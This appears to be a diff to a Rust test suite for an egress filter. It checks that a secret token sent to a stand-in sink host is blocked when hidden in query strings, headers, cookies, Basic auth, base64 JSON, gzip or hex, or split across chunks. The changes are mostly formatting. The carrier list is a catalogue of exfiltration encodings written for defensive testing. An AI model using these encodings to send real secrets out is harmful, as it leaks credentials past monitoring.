@@ -20,9 +20,15 @@ fn carriers(token: &str) -> Vec<(&'static str, Request)> {
         ("query", Request::get(&format!("https://sink.example.net/?q=1&t={token}"))),
         ("header", Request::get(url).header("x-debug", &format!("t={token}"))),
         ("cookie", Request::get(url).header("cookie", &format!("a=b; session={token}"))),
-        ("basic credentials", Request::get(url).header("authorization", &format!("Basic {}", data_encoding::BASE64.encode(format!("u:{token}").as_bytes())))),
+        (
+            "basic credentials",
+            Request::get(url).header("authorization", &format!("Basic {}", data_encoding::BASE64.encode(format!("u:{token}").as_bytes()))),
+        ),
         ("base64 in json", Request::post(url).header("content-type", "application/json").body(json.clone())),
-        ("base64 in json in gzip", Request::post(url).header("content-type", "application/json").header("content-encoding", "gzip").body(gzip(json.as_bytes()))),
+        (
+            "base64 in json in gzip",
+            Request::post(url).header("content-type", "application/json").header("content-encoding", "gzip").body(gzip(json.as_bytes())),
+        ),
         ("hex", Request::post(url).body(data_encoding::HEXLOWER.encode(format!("token {token} end").as_bytes()))),
     ]
 }
@@ -30,8 +36,8 @@ fn carriers(token: &str) -> Vec<(&'static str, Request)> {
 fn gzip(bytes: &[u8]) -> Vec<u8> {
     use std::io::Write;
     let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    encoder.write_all(bytes).unwrap();
-    encoder.finish().unwrap()
+    encoder.write_all(bytes).expect("in memory");
+    encoder.finish().expect("in memory")
 }
 
 #[tokio::test]
@@ -71,7 +77,9 @@ async fn a_token_split_at_every_byte_over_chunks_and_writes_is_found() {
     let body = format!("{{\"note\":\"{token}\"}}");
     let at = body.find(&token).unwrap();
     for cut in at..=at + token.len() {
-        let answer = stack.send(Request::post("https://sink.example.net/").header("content-type", "application/json").body(body.clone()).chunks(&[cut])).await;
+        let answer = stack
+            .send(Request::post("https://sink.example.net/").header("content-type", "application/json").body(body.clone()).chunks(&[cut]))
+            .await;
         assert_eq!(answer.status, 403, "cut at {cut}");
     }
     assert_eq!(stack.origin.requests().len(), 0);
